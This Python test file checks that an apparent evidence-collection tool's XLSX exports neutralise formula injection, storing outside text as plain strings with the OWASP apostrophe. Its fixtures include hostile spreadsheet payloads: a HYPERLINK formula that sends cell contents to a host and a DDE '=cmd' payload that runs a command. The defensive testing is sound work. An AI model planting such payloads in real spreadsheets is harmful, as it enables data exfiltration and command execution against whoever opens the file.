"""Text from outside never becomes a formula in the XLSX files we write (issue 18, item 4).

openpyxl stores a string starting with ``=`` as a formula: an agent message
``=HYPERLINK("http://…?d="&A1,"…")`` landed as a live formula in the signed sheet.xlsx, and so did a
hostname or a point name, in evidence and in ``points export``. Each file is opened again with openpyxl and
every cell is checked: no formula anywhere, the hostile texts as string cells with the OWASP apostrophe.
"""

from __future__ import annotations

import io
import zipfile
from datetime import timedelta

from openpyxl import load_workbook

from collector.cli import main as cli_main
from collector.evidence.bundle import export
from collector.evidence.keys import load_or_create
from collector.evidence.period import parse_period
from collector.store import enrolment, points, queries
from collector.xlsxcells import FORMULA_LEADS, neutralise, unneutralise
from tests.helpers import POINT, REGION, ingest, make_report
from tests.test_evidence_bundle import FROM, START, TO

MESSAGE = '=HYPERLINK("http://127.0.0.1/?d="&A1,"详情")'
HOSTNAME = "=cmd|' /C calc'!A0"
NAME = "+SUM(1,1)村医保服务点"
ADDRESS = "@SUM(1+1)"


def cells(book: bytes | str):
    wb = load_workbook(io.BytesIO(book) if isinstance(book, bytes) else book)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def assert_inert(all_cells, texts) -> None:
    assert not [c.coordinate for c in all_cells if c.data_type == "f"], "a formula cell"
    for text in texts:
        found = [c for c in all_cells if isinstance(c.value, str) and text in c.value]
        assert found, f"{text!r} is missing"
        for c in found:
            assert c.data_type == "s" and not c.value.startswith(FORMULA_LEADS), (c.coordinate, c.value)


def test_evidence_sheet_keeps_agent_text_as_text(store, tmp_path):
    points.upsert_point(store, POINT, NAME, REGION, created_at=START)
    enrolment.enroll(store, enrolment.create_enroll_code(store, POINT), POINT, HOSTNAME,
                     {"machine_id": "-2+3", "serial": "SN1", "macs": ["00:11:22:33:44:55"]})
    for i in range(30):
        report = make_report(POINT, seq=i + 1, collected_at=START + timedelta(minutes=i),
                             statuses={"isolation.internet": "fail", "net.core.tcp": "ok"})
        report.results[0].message = MESSAGE
        report.host.hostname = HOSTNAME
        ingest(store, [report], received_at=START + timedelta(minutes=i, seconds=2))
    out = io.BytesIO()
    export(store, load_or_create(tmp_path / "key"), out, parse_period(FROM, TO), codes=[POINT])
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as z:
        book = z.read(f"points/{POINT}/sheet.xlsx")
    assert_inert(cells(book), [MESSAGE, HOSTNAME, NAME, "-2+3"])


def test_points_export_keeps_names_as_text_and_round_trips(store, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("POINTWATCH_DATABASE_URL", store.url)
    points.upsert_point(store, POINT, NAME, REGION, address=ADDRESS)
    out = tmp_path / "export.xlsx"
    assert cli_main(["points", "export", "--out", str(out)]) == 0
    assert_inert(cells(str(out)), [NAME, ADDRESS])
    assert cli_main(["points", "import", str(out)]) == 0  # imported back: the names as they were
    reg = queries.point_registration(store, POINT)
    assert reg["name"] == NAME and reg["address"] == ADDRESS


def test_neutralise_is_the_owasp_rule():
    for lead in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(lead + "1") == "'" + lead + "1" and unneutralise("'" + lead + "1") == lead + "1"
    assert neutralise("甘肃省") == "甘肃省" and neutralise(-3) == -3 and unneutralise("'abc") == "'abc"
